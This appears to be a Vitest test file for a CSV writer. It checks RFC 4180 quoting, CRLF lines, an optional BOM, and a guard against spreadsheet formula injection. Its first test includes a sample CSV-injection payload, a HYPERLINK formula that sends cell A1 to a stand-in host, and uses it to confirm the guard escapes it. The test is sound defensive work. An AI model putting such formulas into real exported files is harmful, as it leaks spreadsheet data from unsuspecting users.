// The one CSV writer of server and browser (server/text/csv.ts): RFC 4180
// quoting and the formula guard only where a cell would start a formula.
import { describe, expect, it } from 'vitest';
import { csvDocument, csvField, startsFormula } from '../server/text/csv.ts';

describe('CSV writer', () => {
  it('guards every formula start: = + - @ tab and carriage return', () => {
    for (const s of ['=HYPERLINK("http://x?"&A1,"Click")', '+1+2', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '=1']) {
      expect(startsFormula(s), s).toBe(true);
      expect(csvField(s).replace(/^"/, '').startsWith("'"), s).toBe(true);
    }
    expect(csvField('=HYPERLINK("http://x?"&A1,"Click")')).toBe('"\'=HYPERLINK(""http://x?""&A1,""Click"")"');
  });

  it('leaves numbers, plain signed numbers and ordinary text alone', () => {
    for (const s of ['-5', '-16.7%', '+6.5%', '1,204', '-1,204.5', 'Gifts/money', 'a=b', 'E05990009']) {
      expect(startsFormula(s), s).toBe(false);
      expect(csvField(s)).toBe(s.includes(',') ? `"${s}"` : s);
    }
    expect(csvField(-3)).toBe('-3');
    expect(csvField(12.5)).toBe('12.5');
    expect(csvField(null)).toBe('');
    expect(csvField(Number.NaN)).toBe('');
  });

  it('quotes commas, quotes and line breaks; CRLF lines; optional BOM', () => {
    expect(csvField('say "hi", all')).toBe('"say ""hi"", all"');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvDocument([['a', 1], ['b', null]])).toBe('a,1\r\nb,\r\n');
    expect(csvDocument([['a']], { bom: true })).toBe('\uFEFFa\r\n');
  });
});
